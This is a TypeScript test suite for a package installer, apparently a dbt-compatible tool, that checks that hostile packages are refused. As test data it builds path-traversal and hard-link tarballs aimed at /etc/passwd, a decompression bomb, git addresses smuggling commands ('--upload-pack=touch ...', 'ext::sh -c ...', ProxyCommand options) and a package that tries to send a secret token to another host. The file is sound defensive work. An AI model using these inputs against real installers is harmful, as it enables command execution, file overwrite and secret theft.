import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { Header } from 'tar'
import { afterEach, beforeEach, expect, test } from 'vitest'
import {
  createPackageFixture,
  type HubServer,
  type PackageFixture,
  packFiles,
  startHub,
} from './testing/package-fixture.ts'

let fixture: PackageFixture
let hub: HubServer
beforeEach(async () => {
  fixture = createPackageFixture()
  hub = await startHub()
})
afterEach(async () => {
  await hub.close()
  await fixture.remove()
})

interface Entry {
  readonly path: string
  readonly type?: 'File' | 'SymbolicLink' | 'Link' | 'CharacterDevice' | 'FIFO'
  readonly linkpath?: string
  readonly body?: string
  /** Told by the header, whatever the body holds. */
  readonly size?: number
}

/** An archive of exactly these entries, as no honest program would write it. */
function tarball(entries: readonly Entry[]): Buffer {
  const blocks = entries.flatMap(({ path, type = 'File', linkpath = '', body = '', size }) => {
    const header = new Header({ path, type, linkpath, mode: 0o644, size: size ?? Buffer.byteLength(body) })
    header.encode()
    const padded = Buffer.alloc(Math.ceil(Buffer.byteLength(body) / 512) * 512)
    padded.write(body)
    return [header.block!, padded]
  })
  return gzipSync(Buffer.concat([...blocks, Buffer.alloc(1024)]))
}

const project: Entry = { path: 'p/dbt_project.yml', body: 'name: p\n' }

async function installTarball(body: Buffer | string, options: Parameters<PackageFixture['install']>[0] = {}) {
  hub.serve('/p.tar.gz', body)
  fixture.write('project/packages.yml', `packages:\n  - tarball: ${hub.url}/p.tar.gz\n    name: p\n`)
  return fixture.install({ hubUrl: hub.url, ...options })
}

test.each<[string, readonly Entry[]]>([
  ['a path with ..', [project, { path: 'p/../../evil.sql', body: 'x' }]],
  ['an absolute path', [project, { path: '/tmp/strata-evil.sql', body: 'x' }]],
  ['a path with a backslash', [project, { path: 'p\\..\\evil.sql', body: 'x' }]],
  ['a path with a control character', [project, { path: 'p/a\nb.sql', body: 'x' }]],
  ['a device', [project, { path: 'p/null', type: 'CharacterDevice' }]],
  ['a pipe', [project, { path: 'p/pipe', type: 'FIFO' }]],
  [
    'a hard link out of it',
    [project, { path: 'p/passwd', type: 'Link', linkpath: '../../../../etc/passwd' }],
  ],
  ['a hard link to an absolute path', [project, { path: 'p/passwd', type: 'Link', linkpath: '/etc/passwd' }]],
])('a tarball with %s is refused as a whole', async (_what, entries) => {
  await expect(installTarball(tarball(entries))).rejects.toMatchObject({ code: 'HOSTILE_ARCHIVE' })
  expect(existsSync('/tmp/strata-evil.sql')).toBe(false)
  expect(readdirSync(join(fixture.project, 'dbt_packages'))).toEqual([])
})

test('symbolic links out of a tarball are left out and told, those within stay', async () => {
  const { notices } = await installTarball(
    tarball([
      project,
      { path: 'p/a.sql', body: 'a' },
      { path: 'p/inside.sql', type: 'SymbolicLink', linkpath: 'a.sql' },
      { path: 'p/up', type: 'SymbolicLink', linkpath: '../..' },
      { path: 'p/etc', type: 'SymbolicLink', linkpath: '/etc' },
    ]),
  )
  const folder = join(fixture.project, 'dbt_packages/p')
  expect(readFileSync(join(folder, 'inside.sql'), 'utf8')).toBe('a')
  expect(readdirSync(folder).sort()).toEqual([
    '.strata-package.json',
    'a.sql',
    'dbt_project.yml',
    'inside.sql',
  ])
  expect(notices).toEqual([
    'p: left out a link out of the package (up -> ../..)',
    'p: left out a link out of the package (etc -> /etc)',
  ])
})

test('nothing is written through a symbolic link of a tarball', async () => {
  const outside = mkdtempSync(join(tmpdir(), 'strata-outside-'))
  try {
    await installTarball(
      tarball([
        project,
        { path: 'p/door', type: 'SymbolicLink', linkpath: outside },
        { path: 'p/door/evil.sql', body: 'x' },
      ]),
    ).catch(() => undefined)
    expect(readdirSync(outside)).toEqual([])
  } finally {
    rmSync(outside, { recursive: true, force: true })
  }
})

test('symbolic links out of a git package are left out', async () => {
  fixture.write('repository/dbt_project.yml', 'name: g\n')
  mkdirSync(join(fixture.folder, 'repository/macros'))
  symlinkSync('/etc', join(fixture.folder, 'repository/macros/etc'))
  symlinkSync('../dbt_project.yml', join(fixture.folder, 'repository/macros/inside.yml'))
  fixture.commit('repository', {}, 'v1')
  fixture.write(
    'project/packages.yml',
    `packages:\n  - git: ${fixture.url('repository')}\n    revision: v1\n`,
  )
  expect((await fixture.install()).notices).toEqual([
    'g: left out a link out of the package (macros/etc -> /etc)',
  ])
  expect(readdirSync(join(fixture.project, 'dbt_packages/g/macros'))).toEqual(['inside.yml'])
})

test('a subdirectory that is a link out of the repository is refused', async () => {
  fixture.write('outside/dbt_project.yml', 'name: outside\n')
  fixture.write('repository/a.sql', '')
  symlinkSync(join(fixture.folder, 'outside'), join(fixture.folder, 'repository/sub'))
  fixture.commit('repository', {}, 'v1')
  fixture.write(
    'project/packages.yml',
    `packages:\n  - git: ${fixture.url('repository')}\n    revision: v1\n    subdirectory: sub\n`,
  )
  await expect(fixture.install()).rejects.toMatchObject({ code: 'NO_SUBDIRECTORY' })
  expect(fixture.read('outside/dbt_project.yml')).toBe('name: outside\n')
})

test.each(['../evil', '/tmp/evil', '', '.', '__proto__ x', 'a/b'])(
  'a package that calls itself %j is refused',
  async (name) => {
    const body = packFiles('p', { 'dbt_project.yml': `name: ${JSON.stringify(name)}\n` })
    await expect(installTarball(body)).rejects.toMatchObject({
      code: expect.stringMatching(/BAD_PROJECT_NAME|NOT_A_PACKAGE/),
    })
  },
)

test('packages have limits: what is downloaded, what it unpacks to, how many files', async () => {
  const limits = { downloadBytes: 100_000, bytes: 1_000_000, files: 100 }
  const bomb = tarball([project, { path: 'p/zeros', body: '\0'.repeat(2_000_000) }])
  expect(bomb.length).toBeLessThan(limits.downloadBytes)
  await expect(installTarball(bomb, { limits })).rejects.toMatchObject({ code: 'HOSTILE_ARCHIVE' })
  const many = tarball([project, ...Array.from({ length: 200 }, (_, index) => ({ path: `p/${index}` }))])
  await expect(installTarball(many, { limits })).rejects.toMatchObject({ code: 'HOSTILE_ARCHIVE' })
  await expect(installTarball('x'.repeat(200_000), { limits })).rejects.toMatchObject({
    code: 'PACKAGE_TOO_LARGE',
  })
})

test('an archive that is a login page, or cut short, is told as such', async () => {
  await expect(installTarball('<html>log in</html>')).rejects.toMatchObject({ code: 'BAD_ARCHIVE' })
  const whole = packFiles('p', {
    'dbt_project.yml': 'name: p\n',
    'a.sql': Math.random().toString(36).repeat(5000),
  })
  await expect(installTarball(whole.subarray(0, whole.length / 2))).rejects.toMatchObject({
    code: 'BAD_ARCHIVE',
  })
  expect(readdirSync(join(fixture.project, 'dbt_packages'))).toEqual([])
})

test.each([
  ['--upload-pack=touch /tmp/strata-evil'],
  ['ext::sh -c "touch /tmp/strata-evil"'],
  ['ext::sh'],
  ['ssh://-oProxyCommand=evil/x'],
  ['git@-oProxyCommand=evil:x'],
  ['ftp://example.org/x'],
])('the address %s never reaches git', async (url) => {
  fixture.write('project/packages.yml', `packages:\n  - git: ${JSON.stringify(url)}\n    revision: v1\n`)
  expect((await fixture.install()).diagnostics).toMatchObject([
    { code: 'PACKAGE_REFUSED', location: { file: 'packages.yml', line: 2 } },
  ])
  expect(existsSync('/tmp/strata-evil')).toBe(false)
})

test('secrets stand neither in messages, nor in the lock, nor beside the package', async () => {
  fixture.environment['DBT_ENV_SECRET_TOKEN'] = 's3cr3t-t0ken'
  const basic = `Basic ${Buffer.from('user:s3cr3t-t0ken').toString('base64')}`
  hub.serve('/p.tar.gz', packFiles('p', { 'dbt_project.yml': 'name: p\n' }), basic)
  const address = hub.url.replace('://', "://user:{{ env_var('DBT_ENV_SECRET_TOKEN') }}@")
  const file = (path: string) =>
    fixture.write('project/packages.yml', `packages:\n  - tarball: "${address}/${path}"\n    name: p\n`)
  file('p.tar.gz')
  const result = await fixture.install({ hubUrl: hub.url })
  expect(JSON.stringify(result)).not.toContain('s3cr3t')
  expect(fixture.read('project/package-lock.yml')).toContain("{{ env_var('DBT_ENV_SECRET_TOKEN') }}")
  expect(fixture.read('project/package-lock.yml')).not.toContain('s3cr3t')
  expect(fixture.read('project/dbt_packages/p/.strata-package.json')).not.toContain('s3cr3t')
  expect((await fixture.install({ hubUrl: hub.url })).packages).toMatchObject([{ status: 'present' }])
  file('none.tar.gz')
  const error = (await fixture.install({ hubUrl: hub.url }).catch((thrown) => thrown)) as Error
  expect(error).toMatchObject({ code: 'NO_SUCH_FILE' })
  expect(error.message).not.toContain('s3cr3t')
})

test('a fetched package may not send the variables of this machine where the project does not', async () => {
  fixture.environment['DBT_ENV_SECRET_TOKEN'] = 's3cr3t-t0ken'
  const asked = (host: string) =>
    `packages:\n  - tarball: "http://{{ env_var('DBT_ENV_SECRET_TOKEN') }}@${host}/x.tar.gz"\n    name: x\n`
  const evil = packFiles('p', { 'dbt_project.yml': 'name: p\n', 'packages.yml': asked('127.0.0.1:1') })
  expect((await installTarball(evil)).diagnostics).toMatchObject([
    { code: 'PACKAGE_REFUSED', message: expect.stringContaining('DBT_ENV_SECRET_TOKEN to 127.0.0.1:1') },
  ])
  const host = hub.url.slice('http://'.length)
  hub.serve('/x.tar.gz', packFiles('x', { 'dbt_project.yml': 'name: x\n' }))
  hub.serve('/y.tar.gz', packFiles('y', { 'dbt_project.yml': 'name: y\n', 'packages.yml': asked(host) }))
  fixture.write(
    'project/packages.yml',
    `packages:\n  - tarball: "http://{{ env_var('DBT_ENV_SECRET_TOKEN') }}@${host}/y.tar.gz"\n    name: y\n`,
  )
  expect((await fixture.install()).packages.map(({ name }) => name)).toEqual(['y', 'x'])
})

test('a fetched package may not bring in folders and repositories of this machine', async () => {
  for (const entry of [
    'local: /etc',
    'local: ../../project',
    `git: file://${fixture.folder}`,
    `git: ${fixture.folder}`,
  ]) {
    const body = packFiles('p', {
      'dbt_project.yml': 'name: p\n',
      'packages.yml': `packages:\n  - ${entry}\n`,
    })
    expect((await installTarball(body)).diagnostics).toMatchObject([{ code: 'PACKAGE_REFUSED' }])
  }
})

test('a file that is no archive does not leave its staging folder', async () => {
  writeFileSync(join(fixture.folder, 'x'), '')
  await installTarball('nothing').catch(() => undefined)
  expect(readdirSync(join(fixture.project, 'dbt_packages'))).toEqual([])
})
